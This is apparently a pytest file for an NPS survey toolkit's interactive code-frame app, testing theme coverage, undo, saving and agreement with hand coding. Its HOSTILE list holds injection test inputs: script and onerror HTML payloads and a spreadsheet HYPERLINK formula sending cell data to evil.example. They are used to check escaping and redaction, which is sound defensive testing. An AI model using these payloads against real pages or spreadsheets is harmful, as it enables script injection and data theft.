"""The code-frame app without a browser: what is covered is what `themes` says, and each step can be taken back."""

from __future__ import annotations

import csv
import time
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest

import npskit
from npskit.errors import ArgumentError, EmptyDataError, NpskitError, ReadError, RoleError
from npskit.survey.workbench import Workbench
from npskit.text.codeframe import Codeframe, Line
from npskit.text.editing import items, with_words, without_word
from npskit.text.recoding import Recoder
from npskit.text.terms import read

pytest.importorskip("ipywidgets")

PRIVATE = "écrivez à zoe.martin@exemple.fr ou au 06 12 34 56 78, parking complet"
HOSTILE = [
    "<script>document.title='run'</script> parking complet",
    '<img src=x onerror="document.title=1"> parking fermé',
    '=HYPERLINK("http://evil.example/?"&A1,"parking")',
    "</li></ol><h1>parking</h1>",
    "\u202eparking \u202c renversé",
    "parking " + "a" * 50_000,
    "🚗🚗 parking 🚗",
    "חניה parking קטנה",
    PRIVATE,
]


def survey(comments: list[str]) -> pd.DataFrame:
    return pd.DataFrame({"nps": np.arange(len(comments)) % 11, "comment": comments})


@pytest.fixture(scope="module")
def garden() -> pd.DataFrame:
    return npskit.datasets.load("garden")


@pytest.fixture
def small() -> pd.DataFrame:
    return survey(
        ["Trop cher", "Le prix est élevé", "Bel accueil", "Terrarium trop petit", "le terrarium est plein"] * 6
    )


def app_of(frame: pd.DataFrame, *given: Any, **options: Any) -> Any:
    return frame.nps.codeframe_app(*given, **{"comments_lang": "fr", **options})


# ---- the words of a cell


def test_items_are_kept_as_written() -> None:
    assert items('cher, "à, tout prix"; /a,b\\/c/ | «bon marché»,, ') == [
        "cher", '"à, tout prix"', "/a,b\\/c/", "«bon marché»",
    ]  # fmt: skip


def test_word_goes_to_the_line_of_its_language() -> None:
    frame = Codeframe([Line("price", "fr", "cher"), Line("price", "en", "cheap"), Line("staff", "", "vendeur*")])
    assert [line.include for line in with_words(frame, "price", "dear", "en").lines] == [
        "cher", "cheap, dear", "vendeur*",
    ]  # fmt: skip
    assert with_words(frame, "staff", "caissi*", "fr").lines[2].include == "vendeur*, caissi*"
    assert with_words(frame, "terrarium", "place", "fr").lines[3] == Line("terrarium", "fr", "place")
    assert with_words(frame, "price", "CHER, «cher»", "fr") is frame


def test_code_frame_without_languages_stays_so() -> None:
    frame = Codeframe([Line("price", "", "cher")])
    assert with_words(frame, "terrarium", "place", "fr").lines[1].lang == ""


def test_removing_the_last_word_removes_the_theme() -> None:
    frame = Codeframe([Line("price", "fr", "cher"), Line("staff", "", "vendeur*")])
    assert without_word(frame, "price", "cher").themes == ("staff",)  # type: ignore[union-attr]
    assert without_word(Codeframe([Line("price", "fr", "cher")]), "price", "cher") is None
    with pytest.raises(ArgumentError, match="did you mean 'cher'"):
        without_word(frame, "price", "chere")


def test_recoder_codes_as_the_code_frame_does(garden: pd.DataFrame) -> None:
    texts = (
        garden["commentaire"].dropna().tolist()[:800]
        if "commentaire" in garden
        else garden.nps._comments(None, None).texts
    )
    corpus, langs = read(texts), ["fr"] * len(texts)
    recoder, frame = Recoder(corpus, langs), Codeframe.starter("retail")
    for words in ("plante*", '"pas de caddie"', "/\\d+ ?euros/", "bio"):
        frame = with_words(frame, "price", words, "fr")
        assert (recoder.code(frame) == frame.code(corpus, langs)).all()
    while "price" in frame.themes:
        frame = without_word(frame, "price", recoder.met(frame, "price")[0][0])  # type: ignore[assignment]
    assert (recoder.code(frame) == frame.code(corpus, langs)).all()


# ---- the app


def test_app_covers_as_themes_does(garden: pd.DataFrame) -> None:
    app, found = garden.nps.codeframe_app("retail", comments_lang="fr"), garden.nps.themes("retail", lang="fr")
    assert (app.coverage, app.overlap, app.result.responses) == (found.coverage, found.overlap, found.responses)
    assert app.code == "df.nps.themes('retail')"
    assert "82.2% of 2,905 comments have a theme" in app._finding.value
    app.add("plantes", "choice")
    again = garden.nps.themes(app.codeframe, lang="fr")
    assert app.coverage == again.coverage > found.coverage
    assert (
        dict(zip(app.result.table["theme"], app.result.table["responses"], strict=True))["choice"]
        == dict(zip(again.table["theme"], again.table["responses"], strict=True))["choice"]
    )


def test_a_click_is_answered_at_once(garden: pd.DataFrame) -> None:
    comments = (garden.nps._comments(None, None).texts * 2)[:4000]
    app = app_of(survey(list(comments)), "retail")
    taken = []
    for at in (0, 3, 5):
        began = time.perf_counter()
        app._chips.children[at].click()
        taken.append(time.perf_counter() - began)
    assert min(taken) < 0.2


def test_clicked_word_goes_to_the_chosen_theme_and_leaves_the_proposals(small: pd.DataFrame) -> None:
    app = app_of(small, "retail")
    before = app.coverage
    assert app.theme == "price"
    button = next(each for each in app._chips.children if each.description.startswith("terrarium ("))
    assert button.description == "terrarium (12)"
    button.click()
    assert app.codeframe.lines[0].include.endswith(", terrarium")
    assert app.coverage > before
    assert "comments covered in addition: 12" in app._message.value
    assert not any(term == "terrarium" for term, _ in app.result.terms)
    assert "(app.codeframe)" in app.code
    app._undo.click()
    assert app.coverage == before
    assert app.code == "df.nps.themes('retail')"


def test_new_theme_by_name_and_by_word(small: pd.DataFrame) -> None:
    app = app_of(small, "retail")
    app._new.field.value = "Parking & accès"
    app._new.button.click()
    assert app.theme == "Parking & accès"
    assert ("Parking & accès (new)", "Parking & accès") in app._themes.options
    app.add("terrarium")
    assert app.codeframe.themes[-1] == "Parking & accès"
    app.theme = ""
    app.add("petit*")
    assert (app.theme, app.codeframe.themes[-1]) == ("petit", "petit")


def test_starts_from_nothing_and_ends_with_all(small: pd.DataFrame) -> None:
    app = app_of(small, "discovery")
    assert app.codeframe is None
    assert app.coverage == 0
    assert "No theme yet" in app._details.value
    assert app.code == "df.nps.themes('discovery')"
    for words in ("cher", "prix", "accueil", "terrarium"):
        app.add(words, words)
    assert app.coverage == 1
    assert "Every one of the 30 comments has a theme." in app._finding.value
    assert "nothing to propose" in app._chips.hint.value
    assert "all of these comments have a theme" in app._listing.value
    for words in ("cher", "prix", "accueil", "terrarium"):
        app.remove(words, words)
    assert app.codeframe is None
    for _ in range(8):
        app.undo()
    assert app.coverage == 0
    app.undo()


def test_bad_words_change_nothing_and_are_told(small: pd.DataFrame) -> None:
    app = app_of(small, "retail")
    before = app.codeframe
    for words in ("/(cher/", "/(", '"', "  , ,", "!!"):
        app._word.field.value = words
        app._word.button.click()
        assert app.codeframe is before
        assert 'role="alert"' in app._message.value


def test_pattern_that_would_run_for_minutes_is_stopped(monkeypatch: pytest.MonkeyPatch) -> None:
    app = app_of(survey(["a" * 60 + "!"] * 50), "retail")
    before = app.codeframe
    monkeypatch.setattr("npskit.text.rules.PATIENCE", 0.2)
    app._word.field.value = "/(a|aa)+$/"
    app._word.button.click()
    assert "stopped" in app._message.value
    assert app.codeframe is before


def test_state_is_set_from_python(small: pd.DataFrame, tmp_path: Path) -> None:
    app = app_of(small, "retail")
    app.codeframe = "software"
    assert app.codeframe.themes == Codeframe.starter("software").themes
    app.codeframe = [{"theme": "place", "include": "terrarium"}]
    assert app.coverage == 0.4
    app.theme = "place"
    app.view = "theme"
    assert app.comments[0] == "Terrarium trop petit"
    assert "Terrarium trop petit" in app._listing.value
    with pytest.raises(ArgumentError, match="no view"):
        app.view = "elsewhere"
    with pytest.raises(NpskitError):
        app.codeframe = str(tmp_path / "none.csv")
    app.lang = "fr"
    assert "ont un thème" in app._finding.value
    assert app.coverage == 0.4
    app.undo()
    assert app.codeframe.themes == Codeframe.starter("software").themes


def test_theme_is_chosen_by_the_name_that_is_shown(small: pd.DataFrame) -> None:
    app = app_of(small, "retail", lang="fr")
    app.theme = "Accueil"
    assert app.theme == "welcome"


def test_pages_of_comments(garden: pd.DataFrame) -> None:
    app = garden.nps.codeframe_app("retail", comments_lang="fr")
    back, on = app._pages.children
    assert back.disabled
    on.click()
    assert app.first == 10
    assert 'start="11"' in app._listing.value
    app.view = "rest"
    assert app.first == 0
    sizes = [n for _, n in app.result.groups]
    app.view = app.result.groups[0][0]
    assert len(app.comments) == sizes[0]


def test_file_is_never_overwritten_silently_and_reads_back(small: pd.DataFrame, tmp_path: Path) -> None:
    path = tmp_path / "cadre, à moi.csv"
    app = app_of(small, "retail")
    app.add('"l\'été, prix; fou", /a,"b/, cher*, «trop haut»', "Prix; \"fou\", 'bas'")
    app._path.value = str(path)
    save = next(each for each in app._panel.children if getattr(each, "description", "") == "Save")
    save.click()
    assert "Saved" in app._message.value
    assert Codeframe.read(path).lines == app.codeframe.lines
    assert app.code == f"df.nps.themes({str(path)!r})"
    assert small.nps.themes(path, lang="fr").coverage == app.coverage
    before = path.read_bytes()
    app.add("terrarium", "price")
    save.click()
    assert "there already" in app._message.value
    assert path.read_bytes() == before
    app._over.value = True
    save.click()
    assert Codeframe.read(path).lines == app.codeframe.lines
    assert app._over.value is False
    with pytest.raises(ArgumentError, match="can be written"):
        app.save(tmp_path / "no" / "folder.csv")
    with pytest.raises(ArgumentError, match="at least one word"):
        app_of(small, "discovery").save(tmp_path / "empty.csv")


# ---- agreement with a person


def test_agreement_is_that_of_the_counts(small: pd.DataFrame) -> None:
    sample = pd.DataFrame(
        {
            "comment": ["trop cher", "prix", "accueil", "cher accueil", None],
            "Prix": ["x", "", "", "x", "x"],
            "welcome": [0, 1, 1, 0, 1],
            "meteo": [1, 0, 0, 0, 0],
            "remark": ["a", "b", "c", "d", "e"],
        }
    )
    app = app_of(small, "retail", sample=sample)
    found = app.agreement.set_index("theme")
    assert found.loc["price", ["responses", "by_hand", "by_frame", "both"]].tolist() == [4, 2, 3, 2]
    assert found.loc["price", "f1"] == pytest.approx(0.8)
    assert found.loc["price", "kappa"] == pytest.approx(0.5)
    assert found.loc["welcome", "kappa"] == pytest.approx(0)
    assert "meteo" in app._details.value
    assert "remark" not in app._details.value
    app.remove("prix", "price")
    assert app.agreement.set_index("theme").loc["price", "kappa"] == 1


def test_agreement_that_cannot_be_told(small: pd.DataFrame) -> None:
    nothing = app_of(small, "retail", sample=pd.DataFrame({"comment": ["cher", "prix"], "x": [1, 0]}))
    assert "No column of the sample" in nothing._details.value
    with pytest.raises(ReadError, match="a column of comments"):
        app_of(small, "retail", sample=pd.DataFrame({"price": [1, 0]}))
    with pytest.raises(NpskitError, match="sample"):
        app_of(small, "retail", sample=3)
    odd = app_of(small, "retail", sample=pd.DataFrame({"comment": ["a", PRIVATE], "price": [PRIVATE, 0]}))
    assert "something else in 1 of 2 rows" in odd.problem
    assert "zoe" not in odd.problem


# ---- personal data and hostile comments


def test_comments_are_shown_redacted_and_escaped() -> None:
    app = app_of(survey(HOSTILE * 4), "discovery")
    shown = "".join(each.value for each in (app._listing, app._details, app._finding, app._chips.hint))
    shown += "".join(each.description for each in app._chips.children)
    for page in range(4):
        app.first = 10 * page
        shown += app._listing.value
    assert "<script" not in shown
    assert "<img" not in shown
    assert "<h1" not in shown
    assert "zoe" not in shown
    assert "06 12" not in shown
    assert "\u202e" not in shown
    assert "[e-mail]" in shown
    assert not any("mail" in term or "zoe" in term or "martin" in term for term, _ in app.result.terms)
    assert max(map(len, app.comments)) <= 240
    assert not any("@" in text for text in app.comments)


def test_words_of_single_persons_are_not_proposed(small: pd.DataFrame) -> None:
    app = app_of(pd.concat([small, survey(["Madame Dupontel est charmante"])]), "discovery")
    assert not any("dupontel" in term for term, _ in app.result.terms)


def test_no_comments_is_said() -> None:
    with pytest.raises(RoleError):
        pd.DataFrame({"nps": [1, 9]}).nps.codeframe_app()
    for comments in ([None, None], ["RAS", "..."], ["", " "]):
        with pytest.raises(EmptyDataError):
            pd.DataFrame({"nps": [1, 9], "comment": comments}).nps(comment="comment").codeframe_app()


def test_workbench_takes_comments_without_ratings() -> None:
    bench = Workbench(
        npskit.Survey(pd.DataFrame({"comment": ["trop cher", "accueil"] * 20, "day": ["2024-01-01"] * 40})), "retail"
    )
    assert bench.covered(bench.first).coverage == 1


def test_every_control_has_a_name_in_both_languages(small: pd.DataFrame) -> None:
    for lang in ("en", "fr"):
        app = app_of(small, "retail", lang=lang)
        assert all(each.description for each in (app._themes, app._words, app._views, app._path, app._over))
        assert all(each.button.description and each.field.description for each in (app._new, app._word))
        assert app._chips.children[0].tooltip


def test_saved_file_opens_as_a_table(small: pd.DataFrame, tmp_path: Path) -> None:
    app = app_of(small, "retail")
    app.save(tmp_path / "frame.csv")
    with (tmp_path / "frame.csv").open(encoding="utf-8-sig", newline="") as file:
        assert next(csv.reader(file)) == ["theme", "lang", "include", "exclude"]
